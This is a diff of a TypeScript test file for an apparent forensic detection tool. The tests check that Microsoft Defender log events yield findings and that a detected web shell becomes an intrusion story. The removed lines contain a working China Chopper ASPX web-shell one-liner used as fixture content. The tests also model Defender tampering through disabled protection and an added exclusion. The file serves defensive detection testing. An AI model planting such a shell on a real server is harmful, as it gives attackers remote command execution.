@@ -7,6 +7,8 @@ import fs from 'node:fs';
 import { parseEvtx } from '../../../electron/ingest/sources/evtx/index.ts';
 import { checkDefender } from '../../../electron/detect/antivirus.ts';
 import { listFiles } from '../../../electron/detect/rows.ts';
+import { runDetections } from '../../../electron/detect/index.ts';
+import { readFindings } from '../../../electron/report/indicators.ts';
 import { defenderAction, defenderPaths, isExchangeAttackThreat } from '../../../shared/defender.ts';
 import { evtxSummary } from '../../../electron/ingest/sources/evtx/summary.ts';
 import { isoToMicros } from '../../../shared/types.ts';
@@ -61,13 +63,14 @@ test('the real Defender logs: one finding per threat and file, with what Defende
   }
 });
 
-test('a Chopper shell in owa\\auth left in place is critical and linked to the file; protection off and an exclusion are tampering', async () => {
+test('a Chopper shell in a web folder that Defender failed to remove is critical and linked to the file; protection off and an exclusion are tampering', async () => {
   const tc = newCase();
   try {
     const fileId = addFile(tc, LOG, 'ElfFile\0', { kind: 'evtx' });
-    const shellRel = 'C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/errorPage.aspx';
-    addFile(tc, shellRel, '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>', { mtime: '2021-03-03T04:10:00Z' });
-    const shellPath = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\errorPage.aspx';
+    const shellRel = 'C/inetpub/wwwroot/portal/errorPage.aspx';
+    // What is left of the file does not match a web-shell rule (the collection may hold a cleaned copy): Defender's word is the proof.
+    addFile(tc, shellRel, '<%@ Page Language="C#" %><html><body>error</body></html>', { mtime: '2021-03-03T04:10:00Z' });
+    const shellPath = 'C:\\inetpub\\wwwroot\\portal\\errorPage.aspx';
     const ev = (record: number, at: string, id: number, data: Record<string, string>) => {
       const fields = { EventID: id, Provider: PROVIDER, Channel: 'Microsoft-Windows-Windows Defender/Operational', ...Object.fromEntries(Object.entries(data).map(([k, v]) => [`data.${k}`, v])) };
       return { ts: isoToMicros(at), tsDesc: 'Event Logged', source: 'evtx' as const, message: evtxSummary(fields) ?? '', fields, ref: { file: LOG, record } };
@@ -93,6 +96,12 @@ test('a Chopper shell in owa\\auth left in place is critical and linked to the f
     assert.match(off.finding.title, /^Microsoft Defender real-time protection disabled \(1 time, first 2021-03-03 04:20:00\)$/);
     assert.match(exclusion.finding.title, /^Microsoft Defender exclusion added: Paths C:\\ProgramData\\x \(1 time/);
     assert.match(evtxSummary({ EventID: 5001, Provider: PROVIDER, Channel: 'x' }) ?? '', /^Defender 5001: real-time protection disabled$/);
+    // The detected script is a web shell of the case: it makes an intrusion of its own, with the detection in its story.
+    await runDetections(tc.db, { evidenceRoots: tc.roots });
+    const stories = readFindings(tc.db).filter((x) => x.check === 'story');
+    assert.equal(stories.length, 1, stories.map((x) => x.title).join('\n'));
+    assert.deepEqual(stories[0].details?.shells, [shellPath]);
+    assert.ok((stories[0].details?.steps as Array<{ kind: string }>).some((x) => x.kind === 'av-detection'));
   } finally {
     tc.close();
   }
